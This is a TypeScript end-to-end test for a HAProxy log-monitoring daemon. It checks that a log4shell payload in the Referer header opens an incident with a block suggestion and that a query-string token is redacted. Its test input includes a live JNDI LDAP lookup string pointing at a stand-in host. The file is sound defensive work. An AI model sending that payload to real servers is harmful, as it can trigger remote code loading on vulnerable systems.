/**
 * End to end (issue 16): a log4shell payload sent in the Referer through a
 * real HAProxy (2.6 and 3.0) reaches the daemon's monitor in the rendered log
 * format ({host|ua|referer}), is parsed as `referer`, and opens the log4shell
 * incident about the real client, with a block suggestion. The incident's
 * stored sample carries the Referer with its query-string token redacted.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { HAPROXIES, startTestDaemon, startBackend, domainBody, freePort, waitFor } from './helpers/harness.js';
import { parseLine } from '../src/pipeline/parse/index.js';

const TOKEN = 'Zq8s3cr3tReferer0TokenValue42';

for (const h of HAPROXIES) {
  test(`${h.name}: a JNDI lookup in the Referer opens the log4shell incident; the Referer's token is redacted in the sample`, async () => {
    const be = await startBackend('app');
    const t = await startTestDaemon(h.bin, { config: { monitor: { syslog: { address: '127.0.0.1', port: await freePort() }, incident_quiet: '10m' } } });
    try {
      assert.equal((await t.api('POST', '/api/domain', domainBody('shop.test', 'shop', [be.port]))).status, 201);
      assert.equal((await t.api('POST', '/api/trusted-proxies', { cidr: '127.0.0.10' })).status, 201);
      const referer = `https://shop.test/reset?token=${TOKEN}&q=\${jndi:ldap://198.51.100.5:1389/a}`;
      // A plain path and an ordinary User-Agent: only the Referer carries the payload.
      await t.get('shop.test', '/', { localAddress: '127.0.0.10', headers: { 'X-Forwarded-For': '198.51.100.24', 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64)', Referer: referer } });
      // An ordinary Referer from another client opens nothing.
      await t.get('shop.test', '/page', { localAddress: '127.0.0.10', headers: { 'X-Forwarded-For': '198.51.100.25', 'User-Agent': 'Mozilla/5.0', Referer: 'https://shop.test/' } });
      let found: { rule: string; subject: { type: string; value: string }; actions: { type: string; target?: string }[]; samples: string[] } | undefined;
      const ok = await waitFor(async () => {
        found = (await t.api('GET', '/api/incidents')).json<NonNullable<typeof found>[]>().find((i) => i.rule === 'log4shell');
        return found !== undefined;
      }, 8000, 200);
      assert.ok(ok && found, 'log4shell incident opened');
      assert.deepEqual(found.subject, { type: 'ip', value: '198.51.100.24' });
      assert.ok(found.actions.some((a) => a.type === 'block_ip' && a.target === '198.51.100.24'), JSON.stringify(found.actions));
      const sample = found.samples[0]!;
      assert.ok(!sample.includes(TOKEN), `the token is redacted: ${sample}`);
      // The stored sample is the HAProxy line as rendered: it parses, with the referer field (token redacted, payload kept).
      const p = parseLine(sample, 'haproxy');
      assert.equal(p.kind, 'http', sample);
      assert.equal(p.fields.user_agent, 'Mozilla/5.0 (X11; Linux x86_64)');
      assert.match(String(p.fields.referer), /^https:\/\/shop\.test\/reset\?token=\[REDACTED:[a-z]+\]&q=\$\{jndi:ldap:\/\/198\.51\.100\.5:1389\/a\}$/);
      const all = (await t.api('GET', '/api/incidents')).json<{ subject: { value: string } }[]>();
      assert.ok(!all.some((i) => i.subject.value === '198.51.100.25'), 'an ordinary Referer is not an incident');
      const st = (await t.api('GET', '/api/monitor/status')).json<{ pipeline: { unparsed: number } }>();
      assert.equal(st.pipeline.unparsed, 0, 'every HAProxy line parsed');
    } finally {
      await t.stop();
      await be.close();
    }
  });
}
